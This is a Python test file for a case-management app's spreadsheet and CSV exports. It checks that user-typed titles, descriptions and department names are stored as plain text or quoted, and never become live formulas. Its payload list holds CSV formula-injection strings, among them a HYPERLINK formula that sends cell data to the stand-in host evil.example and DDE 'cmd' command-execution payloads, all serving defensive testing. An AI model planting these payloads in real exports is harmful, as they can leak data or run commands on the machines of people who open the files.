"""User text never becomes a live formula in the ledger, the 季度点评 workbook or the export manifest."""
from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import update

from tests.test_exports import params, wait_done
from workflow.core.cases import Case
from workflow.org.models import Department
from workflow.platform.celltext import csv_text

# what an attacker types into a title or description
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "#N/A"]


def _store(world, case, text):
    """Put the raw text on the row: the form strips a leading tab, an older import did not."""
    world.session.execute(update(Case).where(Case.id == case.id)
                          .values(title=text, description=text, found_by=text))
    world.session.commit()


def test_ledger_xlsx_writes_user_text_as_string_cells(client, world):
    cases = [world.case_at("assigned") for _ in PAYLOADS]
    for case, text in zip(cases, PAYLOADS):
        _store(world, case, text)
    resp = client.get("/api/v1/ledger.xlsx", headers=world.headers("auditor"))
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.data))["问题隐患台账"]
    header = [c.value for c in ws[1]]
    columns = [header.index(h) for h in ("标题", "问题描述", "发现人/检查组")]
    seen = []
    for row in ws.iter_rows(min_row=2):
        for i in columns:
            cell = row[i]
            assert cell.data_type == "s", (cell.coordinate, cell.value)
        seen.append(row[columns[0]].value)
    # the value itself is untouched: the office reads what was typed
    assert sorted(seen) == sorted(PAYLOADS)


def test_review_xlsx_writes_department_and_titles_as_string_cells(client, kpi_world):
    w = kpi_world.w
    w.session.execute(update(Department).where(Department.id == w.dept.id)
                      .values(name='=HYPERLINK("http://evil.example","区应急管理局")'))
    overdue = [c for c in kpi_world.cases.values() if c.department_id == w.dept.id]
    for case, text in zip(overdue, PAYLOADS * 10):
        w.session.execute(update(Case).where(Case.id == case.id).values(title=text))
    w.session.commit()
    resp = client.get("/api/v1/kpis/review.xlsx?period=2020Q3&cutoff=2020-10-05",
                      headers=w.headers("office_director"))
    assert resp.status_code == 200
    wb = load_workbook(io.BytesIO(resp.data))
    names = [r[1] for r in wb["部门排名"].iter_rows(min_row=4)]
    evil = [c for c in names if c.value.startswith("=")]
    assert len(evil) == 1 and evil[0].data_type == "s"
    assert evil[0].value == '=HYPERLINK("http://evil.example","区应急管理局")'
    titles = [r[1] for r in wb["逾期事项"].iter_rows(min_row=2)]
    assert titles and all(c.data_type == "s" for c in titles)
    assert any(c.value in PAYLOADS for c in titles)
    for ws in wb.worksheets:  # no formula anywhere in the file
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_export_manifest_quotes_formula_starts(client, world):
    closed = [world.case_at("closed") for _ in PAYLOADS]
    for case, text in zip(closed, PAYLOADS):
        _store(world, case, text)
    world.session.execute(update(Department).where(Department.id == world.dept.id)
                          .values(name="@区应急管理局"))
    world.session.commit()
    resp = client.post("/api/v1/exports", json=params(world), headers=world.headers("auditor"))
    body = wait_done(client, world, resp.json["id"])
    assert body["status"] == "done", body
    resp = client.get(f"/api/v1/exports/{resp.json['id']}/file", headers=world.headers("auditor"))
    archive = zipfile.ZipFile(io.BytesIO(resp.data))
    resp.close()
    rows = list(csv.reader(io.StringIO(archive.read("清单.csv").decode("utf-8-sig"), newline="")))
    titles = sorted(r[1] for r in rows[1:])
    assert titles == sorted(("'" + p if p[0] in "=+-@\t\r" else p) for p in PAYLOADS)
    assert {r[2] for r in rows[1:]} == {"'@区应急管理局"}
    for row in rows[1:]:  # no field starts like a formula any more
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)


def test_csv_text_leaves_plain_values_alone():
    assert csv_text("储罐区") == "储罐区" and csv_text(7) == 7 and csv_text("") == ""
    assert csv_text("-3") == "'-3" and csv_text("a=b") == "a=b"
